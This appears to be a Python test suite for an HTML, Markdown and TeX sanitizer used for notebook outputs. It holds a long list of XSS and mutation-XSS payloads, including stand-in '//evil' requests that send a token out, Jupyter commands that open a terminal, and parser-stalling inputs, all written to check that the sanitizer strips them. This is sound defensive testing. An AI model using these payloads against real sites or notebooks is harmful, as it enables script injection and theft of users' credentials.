"""HTML, Markdown and LaTeX of a host that wants to run something in the user's browser."""

from __future__ import annotations

import html.parser
import re

import numpy as np
import pandas as pd
import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from gpuplug.outputs import markup
from gpuplug.outputs.markup import clean_html, clean_markdown, clean_tex

_TAG_NAMES = (
    "abbr b bdi blockquote br caption cite code col colgroup dd del details dfn div dl dt em figcaption figure h1 h2 h3"
    " h4 h5 h6 hr i ins kbd li mark ol p pre q s samp small span strong sub summary sup table tbody td tfoot th thead"
    " tr tt u ul var"
)
_ALLOWED_TAGS = set(_TAG_NAMES.split())
_ALLOWED_ATTRIBUTES = {"border", "colspan", "rowspan", "align", "valign", "scope", "span", "start", "type", "open"}


class _Reader(html.parser.HTMLParser):
    """Collects what a browser would obey."""

    def __init__(self) -> None:
        super().__init__()
        self.tags: set[str] = set()
        self.attributes: set[str] = set()
        self.text = ""

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.tags.add(tag)
        self.attributes.update(name for name, _ in attrs)

    def handle_data(self, data: str) -> None:
        self.text += data

    def handle_comment(self, data: str) -> None:
        raise AssertionError(f"a comment: {data}")

    def handle_decl(self, decl: str) -> None:
        raise AssertionError(f"a declaration: {decl}")

    def handle_pi(self, data: str) -> None:
        raise AssertionError(f"an instruction: {data}")


def _read(text: str) -> _Reader:
    reader = _Reader()
    reader.feed(text)
    reader.close()
    assert reader.tags <= _ALLOWED_TAGS
    assert reader.attributes <= _ALLOWED_ATTRIBUTES
    return reader


_PAYLOADS = [
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//evil/x.js></SCRIPT>",
    "<scr<script></script>ipt>alert(1)</script>",
    "<script>alert(1)//",
    "<script/x>alert(1)</script >",
    "<img src=x onerror=alert(1)>",
    "<img src='data:image/svg+xml,<svg onload=alert(1)>'>",
    "<img/src/onerror=alert(1)>",
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<svg><a xlink:href='javascript:alert(1)'><text>x</text></a></svg>",
    "<svg><style><img src=x onerror=alert(1)></style></svg>",
    "<svg></p><style><a id='</style><img src=1 onerror=alert(1)>'>",
    "<math><mi xlink:href='javascript:alert(1)'>x</mi></math>",
    "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=1 onerror=alert(1)&gt;'>",
    "<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
    "<a href='javascript:alert(1)'>x</a>",
    "<a href='java\nscript:alert(1)'>x</a>",
    "<a href='&#106;avascript:alert(1)'>x</a>",
    "<a href='//evil'>x</a>",
    "<a ping='//evil' href='#'>x</a>",
    "<iframe src='javascript:alert(1)'></iframe>",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<object data='data:text/html,<script>alert(1)</script>'></object>",
    "<embed src='javascript:alert(1)'>",
    "<applet code=evil></applet>",
    "<form action='//evil'><input name=token><button>x</button></form>",
    "<button formaction='javascript:alert(1)'>x</button>",
    "<input autofocus onfocus=alert(1)>",
    "<button data-commandlinker-command='terminal:create-new' data-commandlinker-args='{}'>x</button>",
    "<div data-commandlinker-command='notebook:run-all-cells'>x</div>",
    "<div style='position:fixed;inset:0;background:url(//evil)'>x</div>",
    "<style>*{background:url(//evil)}</style>",
    "<style>@import '//evil';</style>",
    "<link rel=stylesheet href=//evil>",
    "<base href='//evil'>",
    "<meta http-equiv=refresh content='0;url=//evil'>",
    "<div id=jupyter-config-data>{}</div>",
    "<img name=getElementById>",
    "<div class='jp-Dialog lm-Widget'>type your password</div>",
    "<table background=//evil><tr><td background=//evil>x</table>",
    "<div onclick=alert(1) onmouseover='alert(1)'>x</div>",
    "<details ontoggle=alert(1) open>x</details>",
    "<video src=x onerror=alert(1)><source onerror=alert(1)></video>",
    "<audio src=x onerror=alert(1)>",
    "<marquee onstart=alert(1)>x</marquee>",
    "<body onload=alert(1)>x",
    "<html manifest=//evil>x",
    "<template><script>alert(1)</script></template>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
    "<noembed><img src='</noembed><img src=x onerror=alert(1)>'>",
    "<xmp><img src='</xmp><img src=x onerror=alert(1)>'>",
    "<textarea><img src='</textarea><img src=x onerror=alert(1)>'>",
    "<title><img src='</title><img src=x onerror=alert(1)>'>",
    "<select><template><img src=x onerror=alert(1)></template></select>",
    "<plaintext><img src=x onerror=alert(1)>",
    "<!--><img src=x onerror=alert(1)>-->",
    "<!-- --!><img src=x onerror=alert(1)> -->",
    "<![CDATA[<img src=x onerror=alert(1)>]]>",
    "<?xml version='1.0'?><img src=x onerror=alert(1)>",
    "<p/onclick=alert(1)>x",
    "<p title=`onclick=alert(1)`>x",
    '<p title="a"onclick="alert(1)">x',
    "<isindex type=image src=x onerror=alert(1)>",
    "<portal src='javascript:alert(1)'>",
    "<slot onslotchange=alert(1)></slot>",
    "<x-widget onclick=alert(1)>x</x-widget>",
    "<custom is=script>alert(1)</custom>",
    "<td>x</td><script>alert(1)</script>",
    "<b><script>alert(1)</b>",
    "\0<scr\0ipt>alert(1)</scr\0ipt>",
    "<\u202escript>alert(1)</script>",
    "\x1b]8;;javascript:alert(1)\x1b\\x",
]  # fmt: skip


@pytest.mark.parametrize("payload", _PAYLOADS)
@pytest.mark.parametrize(
    "around", ["{}", "<div><table><tr><td>kept</td></tr></table>{}</div>", "kept {}" + "<p>x</p>" * 5_100]
)
def test_hostile_html_is_left_with_nothing_that_acts(payload: str, around: str) -> None:
    cleaned = clean_html(around.format(payload))
    if cleaned.text is None:
        assert cleaned.note.startswith("text/html")
        return
    reader = _read(cleaned.text)
    # What a payload had inside an attribute or a comment may survive as text, never as markup.
    tags = "".join(re.findall("<[^>]*>", cleaned.text)).lower()
    for bad in (
        "<script",
        "<iframe",
        "<img",
        "<svg",
        "javascript:",
        "style=",
        "href",
        "src=",
        "data-",
        "class=",
        "id=",
    ):
        assert bad not in tags
    assert not re.search(r"\bon\w+\s*=", tags)
    if around.startswith("<div>"):
        assert "kept" in reader.text or payload.startswith(("<plaintext", "<script>alert(1)//"))


@given(st.lists(st.sampled_from(_PAYLOADS) | st.text("<>/'\"= abims!-&;", max_size=12), max_size=6).map("".join))
@settings(deadline=None)  # the machine may be busy
def test_any_mixture_of_hostile_html_is_left_with_nothing_that_acts(text: str) -> None:
    cleaned = clean_html(text).text
    if cleaned is not None:
        _read(cleaned)
        assert _read(clean_html(cleaned).text or "").text == _read(cleaned).text


def test_a_pandas_table_stays_a_table_with_its_numbers_and_no_note() -> None:
    frame = pd.DataFrame({"price": [1.25, 2.5], "<b>name</b>": ["a & b", "<script>"]}, index=["x", "y"])
    cleaned = clean_html(frame._repr_html_())
    assert cleaned.note == ""
    reader = _read(cleaned.text or "")
    assert {"table", "thead", "tbody", "tr", "th", "td"} <= reader.tags
    assert reader.attributes == {"border"}
    for text in ("price", "1.25", "2.50", "a & b", "<script>", "<b>name</b>", "x", "y"):
        assert text in reader.text


def test_a_table_of_many_cells_is_shown_and_spans_are_kept() -> None:
    frame = pd.DataFrame(np.arange(60_000).reshape(3000, 20))
    cleaned = clean_html(frame.to_html(max_rows=3000))
    assert cleaned.text is not None
    assert "<td>59999</td>" in cleaned.text
    columns = pd.MultiIndex.from_product([["a", "b"], ["x", "y"]])
    assert 'colspan="2"' in (clean_html(pd.DataFrame([[1, 2, 3, 4]], columns=columns).to_html()).text or "")


def test_lost_scripts_and_styles_are_noted_and_what_is_empty_without_them_is_not_shown() -> None:
    styled = "<style type='text/css'>td {color: red}</style><table><tr><td>1</td></tr></table>"
    assert clean_html(styled).note == "text/html is shown without its scripts and styles"
    empty = clean_html("<div id=plot></div><script>draw()</script>")
    assert empty.text is None
    assert "nothing is left" in empty.note


_SLOW = {
    "open elements": "<div>" * 300_000,
    "open elements, small": "<div>" * 12_000,
    "formatting that is opened again": "<p>"
    + "".join(f"<b x={at}>" for at in range(2000))
    + "</p>"
    + "<p>x</p>" * 2000,
    "formatting, well nested": "<p>"
    + "".join(f"<b x={at}>" for at in range(90))
    + "<p>x</p>" * 50_000
    + "</b>" * 90
    + "</p>",
    "attributes": "<div " + " ".join(f"a{at}" for at in range(300_000)) + ">",
    "attributes, small": "<div " + " ".join(f"a{at}" for at in range(9000)) + ">",
    "unended scripts": "<script" * 500_000,
    "unended ends": "<script>" + "</script" * 500_000,
    "unended comments": "<!--" * 1_000_000,
    "open angles": "<" * 4_000_000,
    "spaces in a tag": "<a" + " " * 4_000_000,
    "quotes in a tag": "<a b='" + "x" * 4_000_000,
    "ampersands": "x&" * 2_000_000,
    "ampersands, fewer": "x&" * 100_000,
    "ampersands in an attribute": "<p title='" + "x&" * 99_000 + "'>",
    "text": "x\0\r" * 1_600_000,
    "too long": "x" * 5_000_001,
    "svg that nests cells": "<svg>" + "<td>" * 300_000,
}


@pytest.mark.parametrize("name", _SLOW)
def test_html_made_to_keep_the_parser_busy_is_refused_or_done_soon(name: str) -> None:
    begin = _cpu_seconds()
    cleaned = clean_html(_SLOW[name])
    assert _cpu_seconds() - begin < 5.0
    assert cleaned.text is None or len(cleaned.text) < 30_000_000


def _cpu_seconds() -> float:
    import resource  # noqa: PLC0415 - POSIX only, as this test

    return resource.getrusage(resource.RUSAGE_SELF).ru_utime


@pytest.mark.parametrize(
    ("sent", "shown"),
    [
        ("# Title\n\n*a* **b** `c[0]`\n\n- [ ] task\n\n> quote\n\n| a | b |", None),
        ("a <script>x</script>", "a &lt;script>x&lt;/script>"),
        ("[x](javascript:alert(1))", "[x]&#40;javascript:alert(1))"),
        ("![x](//evil/token)", "![x]&#40;//evil/token)"),
        ("[x][1]\n\n[1]: javascript:alert(1)", "[x][1]\n\n[1]&#58; javascript:alert(1)"),
        ("<javascript:alert(1)>", "&lt;javascript:alert(1)>"),
        ("&lt;script&gt; &#36;", "&amp;lt;script&amp;gt; &amp;#36;"),
        ("a\x1b]8;;x\x07b", "ab"),
        (r"$\href{javascript:alert(1)}{x}$", "$\\\u200bhref{javascript:alert(1)}{x}$"),
    ],
)
def test_markdown_keeps_its_formatting_and_loses_html_links_and_images(sent: str, shown: str | None) -> None:
    assert clean_markdown(sent) == (sent if shown is None else shown)


@pytest.mark.parametrize("name", ["href", "url", "class", "cssId", "style", "require", "mmlToken", "htmlData", "bbox"])
def test_tex_that_does_more_than_typeset_is_taken_apart(name: str) -> None:
    for text in (f"\\{name}{{x}}", f"\\\\{name}{{x}}", f"\\let\\y=\\{name} \\y{{x}}"):
        assert not re.search(rf"\\{name}", clean_tex(text))
        assert f"\\{name}" not in (clean_html(f"<p>$ {text} $</p>").text or "")
        split = clean_html(f"<p>$ {text.replace(name, name[0] + '<!-- --><wbr>' + name[1:])} $</p>").text or ""
        assert f"\\{name}" not in re.sub("<wbr>", "", split)


def test_ordinary_tex_is_left_alone() -> None:
    text = r"\frac{1}{2} \hrefs \classical \stylish \int_0^1 \begin{matrix} a \\ b \end{matrix}"
    assert clean_tex(text) == text


def test_the_cleaner_is_loaded_only_for_html() -> None:
    assert "nh3" not in vars(markup)
